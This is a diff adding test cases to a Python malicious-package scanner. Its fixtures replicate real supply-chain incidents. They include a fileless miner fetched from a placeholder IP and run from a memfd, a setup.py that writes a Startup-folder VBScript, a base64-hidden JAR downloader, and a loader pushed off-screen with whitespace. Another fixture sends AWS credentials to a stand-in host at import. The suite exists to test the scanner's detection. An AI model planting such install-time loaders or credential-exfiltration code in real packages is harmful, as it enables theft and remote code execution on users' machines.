@@ -168,3 +168,89 @@ def run(cmd):
 def test_single_variables_and_environment_copies_are_not_dumps(tmp_path: Path, scanner: Scanner) -> None:
     result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/__init__.py": ENV_IDIOMS_INIT}), scanner)
     assert result.verdict is Verdict.CLEAN, explain(result)
+
+
+# secretslib (2022): fetched an ELF miner and ran it from an anonymous memory file, never on disk.
+FILELESS_INIT = """import os
+import urllib.request
+
+data = urllib.request.urlopen("http://192.0.2.1/m").read()
+fd = os.memfd_create("x", 0)
+os.write(fd, data)
+os.execv(f"/proc/self/fd/{fd}", ["x"])
+"""
+
+# colourama (2018): setup.py dropped a VBScript into the Windows Startup folder at install.
+STARTUP_VBS_SETUP = """import os
+from setuptools import setup
+
+startup = os.path.join(os.environ["APPDATA"], "Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup")
+handle = open(os.path.join(startup, "update.vbs"), "w")
+handle.write('CreateObject("WScript.Shell").Run "cmd /c echo fixture", 0')
+handle.close()
+setup(name="fixturepkg", version="1.0.0")
+"""
+
+# JarkaStealer typosquats (2024): a decoded address, a JAR fetched from it and started with java.
+JAR_INIT = f"""import base64
+import subprocess
+import urllib.request
+
+url = base64.b64decode("{b64("https://files.example.invalid/JavaUpdater.jar")}").decode()
+urllib.request.urlretrieve(url, "JavaUpdater.jar")
+subprocess.Popen(["java", "-jar", "JavaUpdater.jar"])
+"""
+
+# pytoileur (2024): the loader sits on an ordinary-looking line, pushed hundreds of columns right.
+HIDDEN_RIGHT_SETUP = (
+    "from setuptools import setup"
+    + " " * 300
+    + ';import base64;exec(base64.b64decode("cHJpbnQoJ2luZXJ0Jyk="))\n'
+    + 'setup(name="fixturepkg", version="1.0.0")\n'
+)
+
+# fabrice (2024): a fabric typosquat that took the AWS credentials the SDK finds and sent them out
+# at import.
+FABRICE_INIT = """import boto3
+import requests
+
+creds = boto3.Session().get_credentials().get_frozen_credentials()
+requests.post("http://192.0.2.1/keys", json={"k": creds.access_key, "s": creds.secret_key})
+"""
+
+
+@pytest.mark.parametrize(
+    ("label", "build"),
+    [
+        (
+            "secretslib fileless miner",
+            lambda t: write_sdist(t, {f"{DEFAULT_NAME}/__init__.py": FILELESS_INIT}),
+        ),
+        ("colourama startup VBScript", lambda t: write_sdist(t, setup_py=STARTUP_VBS_SETUP)),
+        ("JarkaStealer jar loader", lambda t: write_wheel(t, {f"{DEFAULT_NAME}/__init__.py": JAR_INIT})),
+        ("pytoileur hidden right", lambda t: write_sdist(t, setup_py=HIDDEN_RIGHT_SETUP)),
+        ("fabrice AWS keys", lambda t: write_wheel(t, {f"{DEFAULT_NAME}/__init__.py": FABRICE_INIT})),
+    ],
+)
+def test_more_incident_replicas_are_malicious(tmp_path: Path, scanner: Scanner, label: str, build) -> None:
+    result = scan(build(tmp_path), scanner)
+    assert result.verdict is Verdict.MALICIOUS, f"{label}\n{explain(result)}"
+
+
+# google-auth keeps mTLS keys in memfd files and hands out /proc/self/fd paths: nothing runs there.
+MEMFD_KEYS_MODULE = """import os
+
+
+def key_paths(cert, key):
+    paths = []
+    for name, data in (("cert", cert), ("key", key)):
+        fd = os.memfd_create(name, os.MFD_CLOEXEC)
+        os.write(fd, data)
+        paths.append(f"/proc/self/fd/{fd}")
+    return paths
+"""
+
+
+def test_memfd_for_key_material_is_not_a_loader(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/mtls.py": MEMFD_KEYS_MODULE}), scanner)
+    assert result.verdict is Verdict.CLEAN, explain(result)
